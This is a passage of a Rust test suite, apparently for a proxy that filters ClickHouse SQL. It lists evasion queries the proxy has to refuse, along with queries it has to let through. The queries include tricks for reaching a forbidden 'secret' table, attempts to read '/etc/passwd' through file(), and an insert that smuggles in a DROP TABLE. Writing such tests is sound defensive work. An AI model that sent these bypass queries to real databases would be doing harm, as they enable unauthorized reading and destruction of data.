    "SELECT 'y' UNION ALL WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret UNION ALL SELECT s FROM secret",
    "SELECT 'y' UNION ALL (WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret) UNION ALL SELECT s FROM secret",
    "SELECT 'y' |> UNION ALL (WITH secret AS (SELECT 'x' AS s) SELECT s FROM secret) |> JOIN secret ON 1",
    "WITH secret AS (SELECT 'x' AS s) SELECT s FROM `secret` UNION ALL WITH 1 AS k SELECT s FROM 'secret'",
    "WITH secret AS (SELECT 'x' AS s) SELECT s FROM sec.secret",
    "WITH secret AS (SELECT 'x' AS s) SELECT 'x' IN sec.secret",
    "WITH Secret AS (SELECT 'x' AS s) SELECT s FROM secret",
    "WITH `secret ` AS (SELECT 'x' AS s) SELECT s FROM secret",
    "WITH (SELECT 'x') AS secret SELECT s FROM secret",
    "WITH 1 AS secret SELECT s FROM secret",
    "WITH x -> 1 AS secret SELECT s FROM secret",
    "SELECT 1 AS secret FROM secret",
    "SELECT * FROM default.events AS secret JOIN secret AS x ON 1",
    "SELECT * FROM default.events AS secret WHERE 1 IN (SELECT s FROM secret)",
    "SELECT 'x' IN secret FROM default.events AS secret",
    "WITH secret AS (SELECT 'x' AS s) SELECT * FROM numbers((WITH 1 AS k SELECT count() FROM sec.secret))",
    "WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT n FROM x), secret AS (SELECT s FROM secret) SELECT * FROM x, secret",
    "WITH secret AS MATERIALIZED (SELECT s FROM secret) SELECT * FROM secret",
    "WITH secret(s) AS (SELECT s FROM secret) SELECT * FROM secret",
    "EXPLAIN WITH secret AS (SELECT s FROM secret) SELECT * FROM secret",
    "DESCRIBE (WITH secret AS (SELECT s FROM secret) SELECT * FROM secret)",
    "DESCRIBE secret",
];

/// The same, where the name stands within a call.
const SHADOWS_IN_CALLS: &[(&str, &str, &str)] = &[
    ("SELECT * FROM view(SELECT s FROM secret)", "table-function-not-allowed", "view"),
    ("SELECT * FROM numbers(1), view(SELECT s FROM secret)", "table-function-not-allowed", "view"),
    ("SELECT * FROM viewIfPermitted(SELECT s FROM secret ELSE null('s String'))", "table-function-not-allowed", "null"),
    ("SELECT * FROM viewExplain('', '', (SELECT s FROM secret))", "table-function-not-allowed", "viewExplain"),
    ("SELECT * FROM (EXPLAIN SELECT s FROM secret)", "table-function-not-allowed", "viewExplain"),
    ("SELECT * FROM loop(secret)", "table-function-not-allowed", "loop"),
    ("SELECT * FROM loop(view(SELECT s FROM secret))", "table-function-not-allowed", "loop"),
    ("SELECT * FROM merge('^secret$')", "table-function-not-allowed", "merge"),
    ("SELECT * FROM remote('127.0.0.1', view(SELECT s FROM secret))", "table-function-not-allowed", "remote"),
    ("SELECT * FROM values('s String', ((SELECT s FROM secret)))", "table-function-not-allowed", "values"),
    ("SELECT * FROM secret(1)", "table-function-not-allowed", "secret"),
    ("SELECT arrayReduce('groupConcat((SELECT s FROM secret))', ['x', 'y'])", "computed-name", "function in a string"),
    ("SELECT s FROM secret SETTINGS filter = 's IN (SELECT s FROM secret)'", "setting-not-allowed", "filter"),
    ("SELECT s SETTINGS implicit_table_at_top_level = 'secret'", "setting-not-allowed", "implicit_table_at_top_level"),
];

#[tokio::test]
async fn a_denied_table_closes_what_is_about_its_whole_database() {
    let scene = Scene::begin().await;
    let refused = WHOLE_DATABASES.iter().filter_map(|&(sql, why)| why.map(|(reason, says)| (78, sql, 403, reason, says)));
    scene.refuses(scene.by_body("auditors", &refused.collect::<Vec<_>>())).await;
    let permitted = WHOLE_DATABASES.iter().filter(|(_, why)| why.is_none()).map(|&(sql, _)| sql);
    let rows: Vec<_> = permitted.map(|sql| ("/", sql, sql, &[][..])).collect();
    scene.permits("auditors", &rows).await;
}

#[tokio::test]
async fn no_common_table_expression_hides_a_table() {
    let scene = Scene::begin().await;
    let (status, reason, says) = NAMES_IT;
    let mut attacks = scene.by_address("analysts", &SHADOWS.iter().map(|&sql| (75, "/?database=sec", sql, status, reason, says)).collect::<Vec<_>>());
    let in_calls = SHADOWS_IN_CALLS.iter().map(|&(sql, reason, says)| (format!("WITH secret AS (SELECT 'x' AS s) {sql}"), reason, says));
    let in_calls: Vec<_> = in_calls.collect();
    let rows: Vec<_> = in_calls.iter().map(|(sql, reason, says)| (75, "/?database=sec", sql.as_str(), 403, *reason, *says)).collect();
    attacks.extend(scene.by_address("analysts", &rows));
    scene.refuses(attacks).await;
}

/// 124, 151, 152: SQL in strings, and functions that are called by their bare names.
const CALLS: &[ByBody<'_>] = &[
    (151, "SELECT arrayReduce('groupConcat((SELECT s FROM sec.secret))', ['x', 'y'])", 403, "computed-name", "function in a string"),
    (151, "SELECT arrayReduce('groupConcatIf((SELECT s FROM sec.secret))', ['x'], [1])", 403, "computed-name", "function in a string"),
    (151, "SELECT arrayReduce($$groupConcat((SELECT s FROM sec.secret))$$, ['x'])", 403, "computed-name", "function in a string"),
    (151, "SELECT arrayReduce(concat('groupConcat(', '1)'), ['x'])", 403, "computed-name", "function in a string"),
    (151, "SELECT arrayReduce('groupConcat(file(''x''))', ['x'])", 403, "computed-name", "function in a string"),
    (151, "SELECT arrayReduce({p:String}, ['x'])", 403, "computed-name", "function in a string"),
    (151, "WITH 'groupConcat((SELECT s FROM sec.secret))' AS f SELECT arrayReduce(f, ['x'])", 403, "computed-name", "function in a string"),
    (151, "SELECT arrayReduceInRanges('groupConcat((SELECT s FROM sec.secret))', [(1, 1)], ['x'])", 403, "computed-name", "function in a string"),
    (151, "SELECT initializeAggregation('groupConcat((SELECT s FROM sec.secret))', 'x')", 403, "computed-name", "function in a string"),
    (151, "SELECT arrayReduce()('groupConcat((SELECT s FROM sec.secret))', ['x'])", 403, "computed-name", "function in a string"),
    (151, "SELECT arrayReduce('unheardOf', ['x'])", 403, "function-not-allowed", "unheardOf"),
    (151, "EXPLAIN SELECT arrayReduce('groupConcat((SELECT s FROM sec.secret))', ['x'])", 403, "computed-name", "function in a string"),
    (151, "SELECT * FROM values('s String', ((SELECT s FROM sec.secret)))", 403, "table-function-not-allowed", "values"),
    (151, "SELECT * FROM (VALUES ((SELECT s FROM sec.secret)))", 403, "table-function-not-allowed", "SQLStandardValues"),
    (
        152,
        "SELECT * FROM generateRandom('a String ALIAS arrayReduce(''groupConcat((SELECT s FROM sec.secret))'', [''x''])')",
        403,
        "computed-name",
        "structure",
    ),
    (152, "SELECT * FROM generateRandom('a UInt8', (SELECT id FROM sec.secret))", 403, "table-function-not-allowed", "generateRandom"),
    (152, "SELECT * FROM null('a UInt8 DEFAULT file(''x'')')", 403, "computed-name", "structure"),
    (152, "SELECT * FROM null(concat('a', ' UInt8'))", 403, "computed-name", "structure"),
    (124, "SELECT arrayMap(`file`, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (124, "SELECT arrayMap((file), ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (124, "SELECT arrayMap(((`file`)), ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (124, "SELECT arrayMap(file AS f, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (124, "SELECT arrayMap((file AS f), ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (121, "SELECT currentRequestURL", 403, "function-not-allowed", "currentRequestURL"),
    (121, "SELECT currentHandler", 403, "function-not-allowed", "currentHandler"),
    (124, r"SELECT arrayMap(`fil\x65`, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (124, "SELECT arrayFilter(file, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (121, "SELECT arrayFilter(throwIf, [1])", 403, "function-not-allowed", "throwIf"),
    (121, "SELECT arrayMap(logTrace, ['x'])", 403, "function-not-allowed", "logTrace"),
    (63, "SELECT (1, 'x') IN +sec.secret", 403, "table-not-allowed", "sec.secret"),
];

#[tokio::test]
async fn no_call_runs_what_it_does_not_show() {
    let scene = Scene::begin().await;
    let mut attacks = scene.by_body("analysts", CALLS);
    attacks.extend(scene.by_address(
        "analysts",
        &[
            (
                151,
                "/?param_p=groupConcat((SELECT s FROM sec.secret))",
                "SELECT arrayReduce({p:String}, ['x'])",
                403,
                "computed-name",
                "function in a string",
            ),
            (124, "/?param_f=file", "SELECT arrayMap({f:Identifier}, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
            (124, "/?param_f=file", "SELECT * APPLY({f:Identifier}) FROM events", 400, "not-understood", ""),
        ],
    ));
    scene.refuses(attacks).await;
}

/// What is asked, and what ClickHouse gets: the address, the body, the text, the parameters of the statement.
type Permitted<'a> = (&'a str, &'a str, &'a str, &'a [(&'a str, &'a str)]);

impl Scene {
    /// Sends each, and looks at the answer and at the one request that the upstream saw; all that is wrong is told at once.
    async fn permits(&self, group: &str, rows: &[Permitted<'_>]) {
        let token = self.token(group);
        let mut wrong = String::new();
        for (address, body, text, parameters) in rows {
            let before = self.recorder.requests().len();
            let answer = send(&self.house, post(&encoded(address), &token, body)).await;
            let heard = self.recorder.requests().split_off(before);
            let said: Vec<_> = heard.iter().map(|one| (one.text(), parameters_of(one))).collect();
            let expected = vec![((*text).to_owned(), parameters.iter().map(|(name, value)| ((*name).into(), (*value).into())).collect())];
            if answer.status != 200 || said != expected {
                writeln!(wrong, "{address} | {body}\n   came {} {} {said:?}\n   want {expected:?}", answer.status, answer.text().trim_end()).unwrap();
            }
        }
        assert!(wrong.is_empty(), "{wrong}");
    }
}

/// The parameters of the statement, and the database where it is another than the user's.
fn parameters_of(heard: &Heard) -> Vec<(String, String)> {
    let kept = |(name, value): &(String, String)| name.starts_with("param_") || (name == "database" && value != "default");
    heard.parameters().into_iter().filter(kept).collect()
}

/// The texts of the attacks with an allowed table in place of the forbidden one, and others that are harmless.
const HARMLESS: &[Permitted<'_>] = &[
    ("/", r"SELECT '\' || ' , (SELECT t FROM events) -- '", r"SELECT '\' || ' , (SELECT t FROM events)", &[]),
    ("/", "SELECT $x$ ' $x$, (SELECT t FROM events), $$ -- $$", "SELECT ' \\' ', (SELECT t FROM events), ' -- '", &[]),
    ("/", "SELECT ‘ ' ’, (SELECT t FROM events), ‘ ' ’", "SELECT ' \\' ', (SELECT t FROM events), ' \\' '", &[]),
    ("/", "SELECT 1, /* /* */ ' */ (SELECT t FROM events) /* /* ' -- */ */\n AS x", "SELECT 1, (SELECT t FROM events)\nAS x", &[]),
    ("/", "SELECT 1 # '\n, (SELECT t FROM events) // '\n", "SELECT 1\n, (SELECT t FROM events)", &[]),
    ("/", "SELECT 1 /*!50000 UNION ALL SELECT s FROM sec.secret */", "SELECT 1", &[]),
    ("/", "SELECT 1 --\r, (SELECT s FROM sec.secret)", "SELECT 1", &[]),
    ("/", "SELECT 1 --\u{2028}, (SELECT s FROM sec.secret)", "SELECT 1", &[]),
    ("/", "SELECT ' , (SELECT s FROM sec.secret) '", "SELECT ' , (SELECT s FROM sec.secret) '", &[]),
    ("/", "SELECT $a$(SELECT s FROM sec.secret)$a$", "SELECT '(SELECT s FROM sec.secret)'", &[]),
    ("/", r"SELECT * FROM default.`ev\x65nts`", "SELECT * FROM default.`events`", &[]),
    ("/", "SELECT * FROM “default”.“events”", "SELECT * FROM `default`.`events`", &[]),
    ("/", "SELECT * FROM default /* x */ . -- y\n events", "SELECT * FROM default .\nevents", &[]),
    ("/", "SELECT\u{a0}*\u{3000}FROM\u{200b}events", "SELECT * FROM events", &[]),
    ("/", "\u{feff}SELECT 1", "SELECT 1", &[]),
    ("/", "SELECT 1;;", "SELECT 1", &[]),
    ("/", "SELECT 1; -- x\n ; /* y */", "SELECT 1", &[]),
    ("/", "((FROM events))", "((FROM events))", &[]),
    ("/", "SELECT 1_000, 1\u{2212}1, x'41', b'01000001'", "SELECT 1000, 1-1, 'A', 'A'", &[]),
    ("/", "SELECT -/**/-1, - -1", "SELECT - -1, - -1", &[]),
    ("/", "SELECT * FROM 'events'", "SELECT * FROM 'events'", &[]),
    ("/", "WITH secret AS (SELECT 1 AS x) SELECT * FROM secret", "WITH secret AS (SELECT 1 AS x) SELECT * FROM secret", &[]),
    (
        "/?database=sec",
        "WITH secret AS (SELECT 1 AS x) SELECT x IN secret, (SELECT x FROM secret) FROM secret UNION ALL SELECT x FROM secret",
        "WITH secret AS (SELECT 1 AS x) SELECT x IN secret, (SELECT x FROM secret) FROM secret UNION ALL SELECT x FROM secret",
        &[("database", "sec")],
    ),
    ("/?database=sec", "SELECT * FROM default.events", "SELECT * FROM default.events", &[("database", "sec")]),
    ("/?query=SELECT 1 --", "FROM events", "SELECT 1\nFROM events", &[]),
    ("/?query=SELECT %2A", "FROM events", "SELECT *\nFROM events", &[]),
    ("/?param_t=events", "SELECT * FROM {t:Identifier}", "SELECT * FROM `events`", &[]),
    ("/?param_d=default&param_t=events", "SELECT * FROM {d:Identifier}.{t : Identifier}", "SELECT * FROM `default`.`events`", &[]),
    ("/?param_x=it's \\x41%09", "SELECT {x:String}", "SELECT {x:String}", &[("param_x", "it's \\x41\t")]),
    ("/?param_x=(SELECT s FROM sec.secret)", "SELECT {x:String}", "SELECT {x:String}", &[("param_x", "(SELECT s FROM sec.secret)")]),
    ("/?param_x=1&param_unused=2", "SELECT {x:UInt8}", "SELECT {x:UInt8}", &[("param_x", "1")]),
    ("/?param_c=x` , (SELECT s FROM sec.secret) AS `y", "SELECT 1 AS {c:Identifier}", r"SELECT 1 AS `x\` , (SELECT s FROM sec.secret) AS \`y`", &[]),
    ("/?param_c=x\\", "SELECT 1 AS {c:Identifier}", r"SELECT 1 AS `x\\`", &[]),
    ("/", r"SELECT 1 AS `x\` , (SELECT s FROM sec.secret) AS \`y`", r"SELECT 1 AS `x\` , (SELECT s FROM sec.secret) AS \`y`", &[]),
    ("/", "FROM events |> WHERE id > 1 |> SELECT id", "FROM events |> WHERE id > 1 |> SELECT id", &[]),
    ("/", "FROM events SELECT id", "FROM events SELECT id", &[]),
    ("/", "EXPLAIN SELECT * FROM events", "EXPLAIN SELECT * FROM events", &[]),
    ("/", "EXPLAIN PIPELINE graph = 1 SELECT * FROM events", "EXPLAIN PIPELINE graph = 1 SELECT * FROM events", &[]),
    ("/", "DESCRIBE TABLE events", "DESCRIBE TABLE events", &[]),
    ("/", "EXISTS events", "EXISTS events", &[]),
    ("/", "SHOW CREATE TABLE default.events", "SHOW CREATE TABLE default.events", &[]),
    (
        "/",
        "SELECT * FROM events FORMAT JSON SETTINGS output_format_json_quote_64bit_integers=1",
        "SELECT * FROM events FORMAT JSON SETTINGS output_format_json_quote_64bit_integers=1",
        &[],
    ),
    ("/", "SELECT * FROM events WHERE (id, t) IN events", "SELECT * FROM events WHERE (id, t) IN events", &[]),
    ("/", "SELECT arrayReduce('quantile(0.5)', [1])", "SELECT arrayReduce('quantile(0.5)', [1])", &[]),
    ("/", "SELECT arrayMap(x -> x + 1, [1]) FROM numbers(3)", "SELECT arrayMap(x -> x + 1, [1]) FROM numbers(3)", &[]),
    ("/", "SELECT select, `from` FROM events", "SELECT select, `from` FROM events", &[]),
];

#[tokio::test]
async fn what_is_harmless_when_read_rightly_goes_as_exactly_one_request() {
    let scene = Scene::begin().await;
    scene.permits("analysts", HARMLESS).await;
    // 60: what ClickHouse bounds itself costs no stack here.
    let long = [("NOT ", "1"), ("- ", "1"), ("1 + ", "1"), ("1 AND ", "1"), ("x -> ", "1"), ("'x' || ", "''"), ("1 UNION ALL SELECT ", "1")];
    let long = long.map(|(again, last)| format!("SELECT {}{last}", again.repeat(10_000)));
    scene.permits("analysts", &long.each_ref().map(|sql| ("/", sql.as_str(), sql.as_str(), &[][..]))).await;
}

/// What drivers ask for when they connect.
const PROBES: &[&str] = &[
    "SELECT 1",
    "SELECT version(), timezone()",
    "SELECT name, value, readonly FROM system.settings LIMIT 10000",
    "SELECT 1 AS check",
    "SELECT displayName(), version(), revision(), timezone()",
    "SELECT currentUser() AS user, timezone() AS timezone, version() AS version LIMIT 1",
    "SHOW DATABASES",
    "SHOW TABLES",
    "SHOW SETTINGS LIKE 'max_%'",
    "SHOW CHANGED SETTINGS ILIKE 'max_%'",
    "SHOW SETTING max_threads",
    "SHOW FUNCTIONS",
    "SHOW ENGINES",
    "DESC TABLE events",
    "SELECT name, database FROM system.tables WHERE database = 'default'",
    "SELECT name, type FROM system.columns WHERE table = 'events'",
    "SELECT name FROM system.databases",
    "SELECT name, is_aggregate FROM system.functions",
    "SELECT currentDatabase()",
];

#[tokio::test]
async fn what_clients_ask_when_they_connect_is_permitted() {
    let scene = Scene::begin().await;
    let address = "/?client_protocol_version=54405";
    scene.permits("clients", &PROBES.iter().map(|&sql| (address, sql, sql, &[][..])).collect::<Vec<_>>()).await;
}

/// 149: data is no code, for ClickHouse is told so.
const INSERTS: &[Permitted<'_>] = &[
    ("/", "INSERT INTO events VALUES (1, (SELECT s FROM sec.secret))", "INSERT INTO events VALUES (1, (SELECT s FROM sec.secret))", &[]),
    ("/?query=INSERT INTO events FORMAT Values", "(1, file('/etc/passwd'))", "INSERT INTO events FORMAT Values\n(1, file('/etc/passwd'))", &[]),
    (
        "/",
        "insert /* x */ into  `events` (id, \"t\") values -- y\n (1, '\\x41') , $$ \u{a0}\r\n; DROP TABLE events",
        "insert into `events` (id, `t`) values -- y\n (1, '\\x41') , $$ \u{a0}\r\n; DROP TABLE events",
        &[],
    ),
    ("/", "INSERT INTO events FORMAT CSV\r\n1,\"it''s\"\r\n\r\n", "INSERT INTO events FORMAT CSV\r\n1,\"it''s\"\r\n\r\n", &[]),
    ("/", "INSERT INTO events FORMAT JSONEachRow {\"id\": 1} -- ' /*", "INSERT INTO events FORMAT JSONEachRow {\"id\": 1} -- ' /*", &[]),
    ("/?param_t=events", "INSERT INTO {t:Identifier} VALUES ({t:Identifier})", "INSERT INTO `events` VALUES ({t:Identifier})", &[]),
    ("/", "INSERT INTO events SELECT id, t FROM events -- x\n", "INSERT INTO events SELECT id, t FROM events", &[]),
    ("/", "WITH x AS (SELECT 1) INSERT INTO events SELECT * FROM x", "WITH x AS (SELECT 1) INSERT INTO events SELECT * FROM x", &[]),
];

#[tokio::test]
async fn an_insert_goes_on_byte_for_byte_with_settings_that_keep_its_data_from_running() {
    let scene = Scene::begin().await;
    scene.permits("engineers", INSERTS).await;
    for heard in scene.recorder.requests() {
        for name in ["input_format_values_interpret_expressions", "input_format_values_deduce_templates_of_expressions"] {
            assert_eq!(heard.parameter(name).as_deref(), Some("0"), "{}", heard.text());
        }
    }
}

/// Names behind signs and second brackets, functions by their bare names, and a setting that uncovers secrets.
const DISGUISED: &[ByBody<'_>] = &[
    (63, "SELECT globalIn((id, t), sec.secret) FROM events", 403, "table-not-allowed", "sec.secret"),
    (63, "SELECT in()((id, t), sec.secret) FROM events", 403, "table-not-allowed", "sec.secret"),
    (63, "SELECT in((id, t), + sec.secret) FROM events", 403, "table-not-allowed", "sec.secret"),
    (63, "SELECT in((id, t), (+ sec.secret)) FROM events", 403, "table-not-allowed", "sec.secret"),
    (63, "SELECT * FROM events WHERE (id, t) IN (+ sec.secret)", 403, "table-not-allowed", "sec.secret"),
    (63, "SELECT * FROM events WHERE (id, t) IN (+ (sec.secret))", 403, "table-not-allowed", "sec.secret"),
    (63, "SELECT * FROM events WHERE (id, t) IN (((+ sec.secret)) AS x)", 403, "table-not-allowed", "sec.secret"),
    (94, "SELECT 1 SETTINGS format_display_secrets_in_show_and_select = 1", 403, "setting-not-allowed", "format_display_secrets"),
    (124, "SELECT arrayMap(ALL file, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (124, "SELECT arrayMap(+ file, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (124, "SELECT arrayMap()(file, ['/etc/passwd'])", 403, "function-not-allowed", "file"),
    (121, "SELECT arrayMap(unheardOf, [1])", 403, "function-not-allowed", "unheardOf"),
    (121, "SELECT arrayMap(addressToLine, [toUInt64(1)])", 403, "function-not-allowed", "addressToLine"),
    (121, "SELECT arrayMap(regionToName, [toUInt32(1)])", 403, "function-not-allowed", "regionToName"),
];

#[tokio::test]
async fn no_name_in_disguise_reaches_the_upstream() {
    let scene = Scene::begin().await;
    let attacks = scene.by_body("analysts", DISGUISED);
    scene.refuses(attacks).await;
}
